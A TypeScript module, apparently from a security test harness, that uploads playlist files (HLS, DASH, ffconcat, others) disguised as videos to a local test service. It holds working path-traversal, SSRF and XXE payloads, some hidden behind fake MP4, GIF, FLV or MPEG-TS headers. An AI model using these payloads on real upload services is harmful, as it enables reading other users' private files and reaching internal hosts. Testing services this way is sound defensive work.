import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { gotThrough, refused, type AttackKind, type Attempt, type Outcome } from '../attempt.ts'
import { ask } from '../means/ask.ts'
import { PRIVATE_VIDEO } from '../means/made-files.ts'
import type { ServiceVictim } from '../victims/service-victim.ts'
import { formOf, upload } from './forms.ts'

/** Files that name other files. `target` is a path, or an address where it is listened whether anybody asks. */
type Playlist = (target: string) => string

const dash = (target: string): string =>
  `<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" profiles="urn:mpeg:dash:profile:isoff-on-demand:2011" type="static" mediaPresentationDuration="PT2S" minBufferTime="PT1S"><Period duration="PT2S"><AdaptationSet mimeType="video/mp4" contentType="video"><Representation id="1" bandwidth="100000" codecs="avc1.42c00d" mimeType="video/mp4"><BaseURL>${target}</BaseURL></Representation></AdaptationSet></Period></MPD>`

/** A comment with a `G` wherever MPEG-TS has its sync byte. */
const inTransportClothes = (stride: number, from: number, content: string): string => {
  const head = Array.from({ length: from + 3 * stride }, () => 'x')
  for (const [place, mark] of ['<', '!', '-', '-'].entries()) head[place] = mark
  for (const packet of [0, 1, 2]) head[from + packet * stride] = 'G'
  return `${head.join('')}-->\n${content}`
}

const KINDS: Readonly<Record<string, Playlist>> = {
  ffconcat: (target) => `ffconcat version 1.0\nfile '${target}'\n`,
  HLS: (target) => `#EXTM3U\n#EXT-X-TARGETDURATION:2\n#EXTINF:2,\n${target}\n#EXT-X-ENDLIST\n`,
  SDP: () => 'v=0\no=- 0 0 IN IP4 127.0.0.1\nc=IN IP4 127.0.0.1\nt=0 0\nm=video 9 RTP/AVP 96\n',
  IMF: (target) =>
    `<?xml version="1.0"?><AssetMap xmlns="http://www.smpte-ra.org/schemas/429-9/2007/AM"><Path>${target}</Path></AssetMap>`,
  VobSub: (target) => `# VobSub index file, v7\nid: en\n${target}\n`,
  DASH: (target) => `<?xml version="1.0"?>${dash(target)}`,
  'DASH in MPEG-TS clothes': (target) => inTransportClothes(192, 4, dash(target)),
  'DASH in MPEG-TS clothes of 188': (target) => inTransportClothes(188, 188, dash(target)),
  'DASH with an entity in such clothes': (target) =>
    inTransportClothes(192, 4, `<!DOCTYPE x [<!ENTITY e SYSTEM "${target}">]>${dash('&e;')}`),
  'HLS behind an MP4’s head': (target) =>
    `\0\0\0\x18ftypisom\0\0\0\0isomavc1\n#EXTM3U\n#EXTINF:2,\n${target}\n`,
  'HLS behind a GIF’s head': (target) => `GIF89a\n#EXTM3U\n#EXTINF:2,\n${target}\n`,
  'ffconcat behind an FLV’s head': (target) => `FLV\nffconcat version 1.0\nfile '${target}'\n`,
}

export const PLAYLISTS: AttackKind<ServiceVictim> = {
  kind: 'service: playlists as videos',
  attempts: () =>
    Object.entries(KINDS).flatMap(([name, write]) => [toFile(name, write), toNetwork(name, write)]),
}

/** Another's video, which the service's user may read. */
const toFile = (name: string, write: Playlist): Attempt<ServiceVictim> => ({
  what: `${name} → a private file`,
  strike: (victim) => {
    const up = '../'.repeat(12)
    return cameTo(victim, write(`${up}${join(victim.dir, PRIVATE_VIDEO).slice(1)}`))
  },
})

const toNetwork = (name: string, write: Playlist): Attempt<ServiceVictim> => ({
  what: `${name} → an address`,
  strike: async (victim) => {
    let asked = 0
    const server = createServer((_request, response) => {
      asked += 1
      response.end()
    })
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
    const { port } = server.address() as AddressInfo
    try {
      const outcome = await cameTo(victim, write(`http://127.0.0.1:${port}/x.mp4`))
      return asked > 0 ? gotThrough('it was fetched') : outcome
    } finally {
      server.closeAllConnections()
      server.close()
    }
  },
})

/** Through when figures were made of it. */
async function cameTo(victim: ServiceVictim, content: string): Promise<Outcome> {
  const { status, body } = await upload(victim, formOf('a.mp4', content))
  const id = /"job_id":"([^"]+)"/.exec(body)?.[1]
  if (status !== 202 || id === undefined) return refused(`${status} ${body}`)
  const end = await untilOver(victim, id)
  return end === 'completed' ? gotThrough('its frames were read') : refused(`the job ${end}`)
}

async function untilOver(victim: ServiceVictim, id: string): Promise<string> {
  for (;;) {
    const path = `/pose/video/status/${id}`
    const { body } = await ask({ port: victim.port(), path, headers: victim.headers() })
    const status = /"status":"(\w+)"/.exec(body)?.[1] ?? 'failed'
    if (status !== 'queued' && status !== 'processing') return status
    await new Promise((resolve) => setTimeout(resolve, 200))
  }
}
